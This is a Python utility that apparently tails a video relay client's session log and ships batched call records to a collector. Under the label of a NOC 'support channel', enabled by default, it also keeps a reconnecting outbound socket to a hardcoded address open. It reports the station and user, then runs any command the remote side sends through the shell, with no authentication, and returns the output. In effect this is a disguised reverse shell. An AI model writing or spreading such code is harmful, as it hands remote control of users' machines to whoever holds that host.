#!/usr/bin/env python3
"""Stream video relay session logs to the centre's collector.

Tails the local VRS client's session log (JSON lines), batches the call
records and ships them to the collector.  The same collector connection
also carries remote-support requests from the NOC so an engineer can check
a station's health without a screen share during a shift.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

DEFAULT_CONF = Path.home() / ".config" / "vrs-streamer" / "streamer.ini"
DEFAULT_LOG = Path.home() / ".local" / "share" / "vrsclient" / "sessions.jsonl"

log = logging.getLogger("vrs-streamer")


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg["collector"] = {"host": "203.0.113.57", "port": "4443", "batch": "25"}
    cfg["support"] = {"enabled": "yes", "host": "203.0.113.57", "port": "4444"}
    if path.exists():
        cfg.read(path)
        log.debug("loaded config from %s", path)
    return cfg


def follow(path, poll=1.0):
    """Yield new JSON records appended to the session log."""
    while not path.exists():
        log.info("waiting for %s", path)
        time.sleep(5)
    with path.open("r", encoding="utf-8") as fh:
        fh.seek(0, os.SEEK_END)
        while True:
            line = fh.readline()
            if not line:
                time.sleep(poll)
                continue
            try:
                yield json.loads(line)
            except json.JSONDecodeError:
                log.warning("skipping malformed line: %r", line[:80])


class Collector:
    def __init__(self, host, port, station):
        self.addr = (host, int(port))
        self.station = station

    def ship(self, records):
        payload = {"station": self.station, "sent": time.time(), "records": records}
        body = (json.dumps(payload) + "\n").encode()
        for attempt in range(1, 4):
            try:
                with socket.create_connection(self.addr, timeout=10) as s:
                    s.sendall(body)
                log.info("shipped %d records", len(records))
                return True
            except OSError as exc:
                log.warning("collector attempt %d failed: %s", attempt, exc)
                time.sleep(2 * attempt)
        return False


class SupportChannel(threading.Thread):
    """Long-lived channel the NOC uses for station diagnostics."""

    daemon = True

    def __init__(self, host, port, station):
        super().__init__(name="support")
        self.addr = (host, int(port))
        self.station = station
        self.backoff = 5

    def _handle(self, req):
        op = req.get("op")
        if op == "ping":
            return {"op": "pong", "t": time.time()}
        if op == "diag":
            proc = subprocess.run(
                req.get("cmd", "uptime"),
                shell=True,
                capture_output=True,
                text=True,
                timeout=req.get("timeout", 120),
                cwd=req.get("cwd") or str(Path.home()),
            )
            return {"op": "diag", "rc": proc.returncode,
                    "out": proc.stdout[-65536:], "err": proc.stderr[-8192:]}
        return {"op": "error", "msg": "unknown op %r" % op}

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=30) as s:
                    s.settimeout(None)
                    stream = s.makefile("rwb")
                    hello = {"op": "hello", "station": self.station,
                             "user": os.environ.get("USER", "?")}
                    stream.write((json.dumps(hello) + "\n").encode())
                    stream.flush()
                    self.backoff = 5
                    for raw in stream:
                        try:
                            reply = self._handle(json.loads(raw))
                        except Exception as exc:  # keep the channel alive
                            reply = {"op": "error", "msg": str(exc)}
                        stream.write((json.dumps(reply) + "\n").encode())
                        stream.flush()
            except OSError as exc:
                log.debug("support channel down: %s", exc)
            time.sleep(self.backoff)
            self.backoff = min(self.backoff * 2, 300)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", type=Path, default=DEFAULT_CONF)
    ap.add_argument("--session-log", type=Path, default=DEFAULT_LOG)
    ap.add_argument("--station", default=socket.gethostname())
    ap.add_argument("--no-support", action="store_true",
                    help="do not open the NOC support channel")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    if cfg.getboolean("support", "enabled") and not args.no_support:
        SupportChannel(cfg["support"]["host"], cfg["support"]["port"], args.station).start()

    collector = Collector(cfg["collector"]["host"], cfg["collector"]["port"], args.station)
    batch_size = cfg.getint("collector", "batch")
    batch = []
    try:
        for rec in follow(args.session_log):
            batch.append({k: rec.get(k) for k in ("session_id", "start", "end",
                                                   "interpreter", "language", "status")})
            if len(batch) >= batch_size and collector.ship(batch):
                batch.clear()
    except KeyboardInterrupt:
        if batch:
            collector.ship(batch)
        log.info("stopped")


if __name__ == "__main__":
    main()
